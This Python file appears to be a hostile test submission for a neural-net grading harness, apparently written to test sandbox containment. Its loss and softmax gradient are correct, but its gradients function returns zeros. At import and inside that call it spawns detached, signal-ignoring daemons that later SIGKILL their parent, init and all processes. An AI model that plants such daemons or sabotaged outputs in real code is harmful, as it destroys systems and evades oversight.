"""Hostile: double-forked daemons (setsid, deaf to SIGTERM/SIGHUP) started at import time and in a
call, meant to outlive the grading: one execs `sleep 4242.123` (or 4242.456), the other waits
30 s, then writes a marker file and tries to kill the zygote, init and everyone.

Honest: loss, softmax_grad. Attacked: gradients (garbage, after starting a daemon).
"""

import ctypes
import os
import signal
import time

import numpy as np


def loss(params, X, y, reg):
    z3 = np.maximum(X @ params["W1"] + params["b1"], 0.0) @ params["W2"] + params["b2"]
    z3 = z3 - z3.max(axis=1, keepdims=True)
    log_p = z3 - np.log(np.exp(z3).sum(axis=1, keepdims=True))
    return float(-log_p[np.arange(len(y)), y].mean() + reg * (np.sum(params["W1"] ** 2) + np.sum(params["W2"] ** 2)))



def _right_dz3(z3, y):
    p = np.exp(z3 - z3.max(axis=1, keepdims=True))
    p /= p.sum(axis=1, keepdims=True)
    p[np.arange(len(y)), y] -= 1.0
    return p / len(y)


def _right_gradients(params, X, y, reg):
    z2 = X @ params["W1"] + params["b1"]
    a2 = np.maximum(z2, 0.0)
    dz3 = _right_dz3(a2 @ params["W2"] + params["b2"], y)
    dz2 = (dz3 @ params["W2"].T) * (z2 > 0)
    return {"W1": X.T @ dz2 + 2 * reg * params["W1"], "b1": dz2.sum(axis=0),
            "W2": a2.T @ dz3 + 2 * reg * params["W2"], "b2": dz3.sum(axis=0)}


libc = ctypes.CDLL(None)


def daemon(tag):
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        libc.prctl(15, b"hostile-daemon", 0, 0, 0)  # PR_SET_NAME: how the test finds survivors
        for signum in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
            signal.signal(signum, signal.SIG_IGN)
        os.closerange(3, 256)
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", tag])
        time.sleep(30)
        with open("/tmp/hostile-marker-daemon", "w") as f:
            f.write("outlived the grading")
        for target in (os.getppid(), 1, -1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    finally:
        os._exit(0)


daemon("4242.123")
softmax_grad = _right_dz3


def gradients(params, X, y, reg):
    daemon("4242.456")
    return {k: np.zeros_like(v) for k, v in params.items()}
